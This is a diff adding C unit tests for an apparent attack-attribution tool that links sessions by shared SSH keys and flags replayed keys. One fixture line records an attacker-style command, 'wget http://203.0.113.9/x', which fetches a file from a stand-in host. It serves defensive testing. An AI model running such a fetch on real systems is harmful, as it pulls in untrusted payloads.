@@ -74,6 +74,64 @@ test_order(void **state)
 	study_end(&s);
 }
 
+/* Sources D, D + 1 ... have a key each; `replayers` carry all of those keys. */
+static void
+begin_replayed(struct study *s, uint32_t owners, uint32_t replayers)
+{
+	struct batch *b = batch_new();
+
+	for (uint32_t i = 0; i < owners; i++) {
+		char key[] = "SHA256:owner a";
+
+		key[sizeof(key) - 2] = (char)('a' + i);
+		batch_add(b, &(struct batch_session){ .ip = 0x0b000001 + i, .key = key });
+		for (uint32_t r = 0; r < replayers; r++)
+			batch_add(b, &(struct batch_session){ .ip = 0x0c000001 + r,
+					 .key = key,
+					 .commands = { "wget http://203.0.113.9/x" } });
+	}
+	study_begin(s, b, NULL);
+}
+
+/* What has three owners' keys has nobody's: A4 ties no two victims, and nothing else that it brings counts either. */
+static void
+test_replayers(void **state)
+{
+	(void)state;
+	for (uint32_t owners = 1; owners <= 6; owners++)
+		for (uint32_t replayers = 1; replayers <= 10; replayers += 3) {
+			struct study s;
+			bool several = replayers > 1; /* and the address that they fetch from */
+
+			begin_replayed(&s, owners, replayers);
+			assert_int_equal(
+			    s.m.n_artefacts, owners > 2 ? 0 : owners + (several ? 1 : 0));
+			study_end(&s);
+		}
+}
+
+/* One operator's many keys, all of them on all hosts, are no sign of replay. */
+static void
+test_many_keys_of_one_owner(void **state)
+{
+	struct batch *b = batch_new();
+	struct study s;
+
+	(void)state;
+	for (uint32_t i = 0; i < 4; i++)
+		for (char k = 'a'; k <= 'e'; k++) {
+			char key[] = "SHA256:x";
+
+			key[7] = k;
+			batch_add(b, &(struct batch_session){ .ip = A + i, .at_s = k, .key = key });
+		}
+	study_begin(&s, b, NULL);
+	assert_int_equal(s.m.n_artefacts, 5);
+	for (uint32_t i = 0; i < 5; i++)
+		assert_int_equal(s.m.artefacts[i].n_sources, 4);
+	study_end(&s);
+}
+
 int
 main(void)
 {
@@ -81,6 +139,8 @@ main(void)
 		cmocka_unit_test(test_two_sources),
 		cmocka_unit_test(test_one_source_on_two_services),
 		cmocka_unit_test(test_order),
+		cmocka_unit_test(test_replayers),
+		cmocka_unit_test(test_many_keys_of_one_owner),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
